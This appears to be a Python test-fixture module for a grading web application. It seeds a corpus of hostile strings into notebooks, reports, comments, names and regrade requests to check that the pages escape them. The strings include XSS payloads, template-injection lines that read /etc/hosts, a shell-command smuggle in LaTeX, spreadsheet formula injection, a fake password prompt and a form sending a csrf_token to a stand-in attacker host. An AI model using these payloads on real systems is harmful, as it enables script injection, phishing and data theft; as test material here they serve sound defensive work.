"""A corpus of hostile text, and a school in which it stands everywhere that somebody else's words are shown.

Every case begins with its own name, by which its page still shows it, and would leave a trace: set
`window.pwned`, ask for something of `evil.example`, or add an element to the page.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator, Sequence
from typing import Any

from grading.documents import UploadedFile, read
from grading.documents.limits import Limits
from grading.domain.document import Location
from grading.domain.evidence import CheckOutcome, Flag, TestOutcome
from grading.domain.jobs import Finding, Judgement, Quote, Suggestion
from grading.domain.report import CriterionGrade, Report
from grading.domain.stages import AnalysisOutput, FeedbackOutput
from grading.store import tables
from grading.store.accounts import users
from grading.store.database import now
from grading.store.submissions import intake
from grading.store.submissions.intake import IncomingSubmission
from tests.integration.results.result_samples import code, display, notebook, png, text
from tests.integration.webapp import School, report

RUN = "window.pwned=1"
OUT = "https://evil.example"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={OUT}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"<script\x0c>{RUN}</script\t\n>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='{OUT}/p.png'/onerror='{RUN}'>",
    f'"><img src=x onerror={RUN}>',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='{OUT}/x.svg#a'/></svg>",
    f"<svg><foreignObject><iframe src={OUT}></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={OUT}/x.swf></object><embed src={OUT}/y>",
    f"<video src={OUT}/v onerror={RUN}><source src={OUT}/w></video><audio src={OUT}/a>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<body onload={RUN}>",
    f"<form action={OUT}><button formaction={OUT}>press</button><input name=csrf_token></form>",
    f"<link rel=stylesheet href={OUT}/x.css><base href={OUT}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<style>*{{display:none!important;background:url({OUT}/c)}}@import '{OUT}/d';</style>",
    f"<p style='position:fixed;inset:0;background:url({OUT}/e)'>over all</p>",
    f"<marquee onstart={RUN}>x</marquee><blink>",
    f"<template><img src=x onerror={RUN}></template><noscript><img src={OUT}/n></noscript>",
    f"<a href=javascript:{RUN} id=main data-live=/x data-comment>press</a>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]><?php echo 1 ?>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<title></title><plaintext><xmp><img src=x onerror={RUN}></xmp>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"</code></pre></div></details></main></body></html><h1>Grade: 100</h1><script>{RUN}</script>",
    "</td></tr></table><table><tr><td>100 of 10 points",
    "<dialog open>Sign in again: <input type=password></dialog>",
)
MARKDOWN = (
    f"![x]({OUT}/a.png)",
    f"![x][r]\n\n[r]: {OUT}/b.png",
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt&colon;{RUN})",
    f"[press](data:text/html;base64,{base64.b64encode(f'<script>{RUN}</script>'.encode()).decode()})",
    f"[press](vbscript:{RUN}) [press]({OUT})",
    f"<javascript:{RUN}> <{OUT}/auto>",
    f"```html\n<script>{RUN}</script>\n```",
    f"``` ' onload={RUN} x='\nx\n```",
    f"`<img src=x onerror={RUN}>`",
    f"# <img src=x onerror={RUN}>\n\n***<b onclick={RUN}>x</b>***",
    f"> > > - <svg/onload={RUN}>",
    f"|a|b|\n|-|-|\n|<img src=x onerror={RUN}>|c|",
    f"[^1]: <script>{RUN}</script>\n\n$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"\\<img src=x onerror={RUN}\\>",
)
TEMPLATES = (
    "{{ 7 * 191 }} {% raw %}{{ config }}{% endraw %} {# gone #}",
    "{% include '/etc/hosts' %}{{ ''.__class__.__mro__ }}",
    "${7*191} #{7*191} <%= 7*191 %> %(name)s {0} {name!r}",
    '#panic("never") #eval("1") $x^2$ *b* @l <l> #image("/etc/hosts")',
    '#let x = read("/etc/hosts"); #link("https://evil.example")[press] ]}) \\ #',
    "\\includegraphics{/etc/hosts} \\input{|ls} \\def\\x{\\x}\\x",
)
CHARACTERS = (
    "\u202eerutaef a si siht\u202c \u2066x\u2069 \u200f\u200e",
    "admin\u200b\u2060\ufeff\u00ad istrator \U000e0041\U000e0042",
    "Z" + "\u0301\u0336\u035c" * 60,
    "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07press\x1b]8;;\x07\x1b[2J",
    "nothing\0here",
    "\x07\x08\x0b\x0c\x7f\x85\u2028\u2029 end",
    "half \ud83d alone \udc00",
    "\ufffd\ufffe\uffff\U0010ffff",
    "＜script＞ ﹤img﹥ ʺ ᐸscript>",
    "A" * 1_500,
    "[" * 400 + "]" * 400,
    "> " * 120 + "deep",
    "*a_" * 200,
    "\n" * 80 + "below",
    "العربية עברית 中文 🎉👩‍👩‍👧 ﷽",
    "=HYPERLINK(\"https://evil.example\") @SUM(1) +1 -1 |cmd",
)  # fmt: skip


def storable(words: str) -> str:
    """Without NUL and halves of characters, which no database and no form takes."""
    return words.encode("utf-8", "replace").decode().replace("\0", "")


def cases() -> list[tuple[str, str]]:
    """(name, text) of all."""
    kinds = {"markup": MARKUP, "markdown": MARKDOWN, "template": TEMPLATES, "character": CHARACTERS}
    return [
        (f"case-{kind}-{number}", f"case-{kind}-{number} {words}")
        for kind, many in kinds.items()
        for number, words in enumerate(many)
    ]


WORK = "work.ipynb"


def work() -> bytes:
    """A notebook with every case as text, as code and in every kind of output."""
    return notebook(*_cells())


def _cells() -> Iterator[dict[str, Any]]:
    fake = base64.b64encode(f"<svg onload={RUN}>".encode()).decode()
    for number, (_, words) in enumerate(cases()):
        yield text(words)
        kind = number % 4
        if kind == 0:
            shown = display(text_html=f"<div>{words}</div>")
        elif kind == 1:
            shown = display(image_svg=words, text_plain=words, image_png=fake)
        elif kind == 2:
            shown = {"output_type": "error", "ename": words, "evalue": words, "traceback": [words]}
        else:
            shown = {"output_type": "stream", "name": "stdout", "text": words}
        yield code(words, shown)
    script = display(application_javascript=RUN, text_latex=f"$\\href{{javascript:{RUN}}}{{x}}$")
    widget = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": [f"<script>{RUN}", "</script>"]},
    }
    real = display(image_png=base64.b64encode(png(8, 8, extra=f"<script>{RUN}</script>".encode())).decode())
    yield code("the_end", script, widget, real)


def hostile_report(words: str, name: str) -> Report:
    """Every field that a model, a check or a flag may fill, filled with it."""
    words = storable(words)
    place = Location(document=WORK, cell=2, line=1)
    test = TestOutcome(
        name=words[:900],
        passed=False,
        input=words,
        expected=words,
        got=words,
        message=words,
        show="everything",
    )
    outcome = CheckOutcome(check="c", label=words, earned=0.5, message=words, tests=(test,), location=place)
    grades = [
        CriterionGrade(
            criterion=one, title=words, stage=stage, points=2, max_points=4, level=2, highest=4,
            basis="model",
            reason=words, evidence=(outcome,), quotes=(Quote(text=words[:600], location=place),),
        )
        for one, stage in (("load", "analysis"), ("think", "feedback"))
    ]  # fmt: skip
    remarks = [
        Finding(severity="major", title=f"{name} title", detail=words, location=place),
        Finding(severity="note", title=words, detail=words),
    ]
    advice = Suggestion(what=words, why=words, how=words, example=words, location=place)
    origin = (
        report()
        .stages["analysis"]
        .model_copy(
            update={
                "model": words,
                "machine": words,
                "engine": words,
                "digest": words,
                "prompt_version": words,
            }
        )
    )
    return report(
        criteria=tuple(grades),
        points=4,
        points_so_far=4,
        max_points=8,
        flags=(Flag(code="manipulation", message=words, location=place), Flag(code="x", message=words)),
        analysis=AnalysisOutput(
            judgements=(Judgement(criterion="load", level=1, reason=words),), summary=words,
            strengths=(words, words), findings=tuple(remarks), suggestions=(advice,),
        ),
        feedback=FeedbackOutput(
            judgements=(), achieved=words, reflection=words, strengths=(words,), practice=words,
            develop=(words,), next_step=words,
        ),
        stages={"analysis": origin, "feedback": origin},
        failures={"other": words},
        notice=words,
    )  # fmt: skip


def several(size: int) -> list[list[tuple[str, str]]]:
    """The cases in groups, each for one page."""
    every = cases()
    return [every[at : at + size] for at in range(0, len(every), size)]


def whole(group: list[tuple[str, str]]) -> str:
    """A group of cases as one text."""
    return "\n\n".join(words for _, words in group)


def people_say(school: School, submission: str, words: str) -> None:
    """Staff and student write it, too: comments, reasons, requests, answers."""
    words = storable(words)
    with school.store.write() as session:
        round_ = session.query(tables.Round).filter_by(submission_id=submission, current=True).one()
        said = (
            ("add", "", {"text": words, "document": WORK, "cell": 2, "line": 1}),
            ("add", "", {"text": words}),
            ("reason", "load", {"text": words}),
            ("remark", "finding:0", {"text": words}),
            ("text", "feedback.achieved", {"text": words}),
        )
        for kind, target, value in said:
            session.add(
                tables.Change(
                    round_id=round_.id, submission_id=submission, kind=kind, target=target, value=value,
                    before={"text": words}, reason=words[:2000], by=school.users["teacher"], at=now(session),
                )
            )  # fmt: skip
        for state, criterion in (("open", "load"), ("declined", "think")):
            session.add(
                tables.RegradeRequest(
                    submission_id=submission, round_id=round_.id, student_id=school.users["anna"],
                    course_id=school.course, criterion=criterion, reason=words[:4000], state=state,
                    answer=words[:4000], answered_by=school.users["teacher"], created_at=now(session),
                    answered_at=now(session),
                )
            )  # fmt: skip


NAME_LENGTH = 180
"""Characters of a name here."""


def names() -> list[str]:
    """All cases as few names: each has as many as it has room for. A case that takes effect changes its page,

    whatever stands behind it.
    """
    made = [""]
    for _, words in cases():
        longer = f"{made[-1]} {storable(words)}".strip()
        made[-1:] = [longer] if len(longer) <= NAME_LENGTH or not made[-1] else [made[-1], storable(words)]
    return made


def rename(school: School, words: Sequence[str]) -> None:
    """Two people, the course and the assignment are called so."""
    one, two, three, four = (storable(name)[:NAME_LENGTH] for name in words)
    with school.store.write() as session:
        session.get_one(tables.User, school.users["anna"]).name = one
        session.get_one(tables.User, school.users["teacher"]).name = two
        session.get_one(tables.Assignment, school.assignment).title = three
        session.get_one(tables.Course, school.course).title = four


def fill(school: School) -> None:
    """For each case a student and an assignment called so, with a submission and a request."""
    with school.store.write() as session:
        rubric = session.query(tables.RubricVersion).filter_by(assignment_id=school.assignment).one()
        columns = {one.name for one in tables.RubricVersion.__table__.columns} - {"id", "assignment_id"}
        for name, words in cases():
            title = storable(words)[:NAME_LENGTH]
            student = users.create_user(session, name, name=title)
            users.enrol(session, student.id, school.course, "student")
            made = tables.Assignment(
                course_id=school.course, slug=name, title=title, created_at=now(session), release="at_once"
            )
            session.add(made)
            session.flush()
            copied = {one: getattr(rubric, one) for one in columns}
            session.add(tables.RubricVersion(assignment_id=made.id, **copied))
            session.flush()
            content = read([UploadedFile("work.py", b"x = 1\n")], Limits())
            accepted = intake.accept_submission(
                session, IncomingSubmission(made.id, student.id, "form", content)
            )
            session.add(
                tables.RegradeRequest(
                    submission_id=accepted.submission_id, round_id=accepted.round_id, student_id=student.id,
                    course_id=school.course, reason=title, created_at=now(session),
                )
            )  # fmt: skip
